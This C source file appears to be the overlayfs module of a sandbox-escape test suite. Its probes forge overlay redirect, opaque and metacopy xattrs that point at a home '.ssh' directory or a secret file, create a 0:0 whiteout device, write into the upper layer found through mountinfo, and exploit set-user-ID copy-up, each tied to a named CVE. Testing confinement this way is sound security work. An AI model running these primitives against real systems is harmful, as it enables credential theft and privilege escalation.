/* escape/overlay.c - whiteouts, attributes and copy-up of a layer: what the first command of a session forges is looked
 * at by the second, when the layer has been laid anew. */
#include "config.h"

#include "case.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

static long forge(const char *path, const char *name, const char *value)
{
	char attribute[80];
	long result = 0;
	snprintf(attribute, sizeof(attribute), "user.overlay.%s", name);
	if (setxattr(path, attribute, value, strlen(value), 0) < 0)
		result = -errno;
	snprintf(attribute, sizeof(attribute), "trusted.overlay.%s", name);
	if (setxattr(path, attribute, value, strlen(value), 0) == 0)
		result = 0;
	return result;
}

static const char *home_as_redirect(void)
{
	return beside(fact("home"), ".ssh");
}

static long redirect(void)
{
	if (second || unconfined)
		return tell(unconfined ? fact("secret") : "led/id_secret");
	mkdir("led", 0755);
	return forge("led", "redirect", home_as_redirect());
}

static long relative_redirect(void)
{
	if (second || unconfined)
		return tell(unconfined ? fact("secret") : "led-up/id_secret");
	mkdir("led-up", 0755);
	forge("led-up", "opaque", "n");
	return forge("led-up", "redirect", "/../home/.ssh");
}

static long metacopy(void)
{
	if (second || unconfined)
		return tell(unconfined ? fact("secret") : "meta");
	long result = make("meta");
	if (result < 0)
		return result;
	forge("meta", "metacopy", "");
	forge("meta", "origin", "x");
	return forge("meta", "redirect", fact("secret"));
}

static long device_whiteout(void)
{
	unlink("white");
	if (mknod("white", S_IFCHR, makedev(0, 0)) < 0)
		return -errno;
	return 0;
}

static long opaque(void)
{
	if (second || unconfined)
		return unconfined ? make(beside(fact("tree"), token)) : opened(open("src/say", O_WRONLY));
	return forge("src", "opaque", "y");
}

/* Where the layer itself lies is told by /proc/self/mountinfo. */
static long reach_layer(void)
{
	char line[4096], path[1200];
	FILE *table = fopen("/proc/self/mountinfo", "re");
	long result = -ENOENT;
	while (table && fgets(line, sizeof(line), table)) {
		char *upper = strstr(line, "upperdir=");
		if (!upper)
			continue;
		upper += strlen("upperdir=");
		upper[strcspn(upper, ",\n ")] = 0;
		snprintf(path, sizeof(path), "%s/%s", upper, token);
		long tried = make(path);
		if (result != 0)
			result = tried;
	}
	if (table)
		fclose(table);
	return result;
}

/* A set-user-ID file of the tree is copied up with its bit when it is touched. */
static long copy_up(void)
{
	struct stat status;
	if (stat("suid", &status) < 0 || !(status.st_mode & S_ISUID))
		return -ENOENT;
	utimensat(AT_FDCWD, "suid", NULL, 0);
	int fd = open("suid", O_WRONLY | O_APPEND);
	if (fd < 0)
		return -errno;
	long result = done(write(fd, token, 4));
	close(fd);
	return result;
}

#define LAYER(name, promise, how, function, mechanism, source) { name, promise, how, function, &writes_in_the_tree, mechanism, source }
static const struct row rows[] = {
	LAYER("redirect", "secrets", AGAIN, redirect, "a directory of the layer is redirected to a hidden one", "CVE-2021-26910, overlayfs documents"),
	LAYER("redirect-upwards", "secrets", AGAIN, relative_redirect, "the same with `..`", "overlayfs documents"),
	LAYER("metacopy", "secrets", AGAIN, metacopy, "a file of the layer takes its content from a hidden one", "overlayfs documents, CVE-2023-0386"),
	LAYER("whiteout-device", "user", BY_WORD | ROOT_ONLY | NO_MACHINE, device_whiteout, "a device 0:0 is made, which an overlay reads as a removal", "CVE-2023-2640, CVE-2023-32629"),
	LAYER("opaque", "filesystem", AGAIN, opaque, "a directory is marked opaque, to be seen without what lies below", "CVE-2023-2640"),
	LAYER("layer-in-sight", "writes", BY_WORD | HARMFUL, reach_layer, "the directory that holds the layer is written around the overlay", "CVE-2021-26910"),
	LAYER("copy-up-of-set-user-id", "own", AFTERWARDS, copy_up, "a set-user-ID file of the tree is changed, and its copy keeps the bit", "CVE-2023-0386, CVE-2021-3493"),
};
const struct class overlay_class = CLASS("overlay tricks", rows);
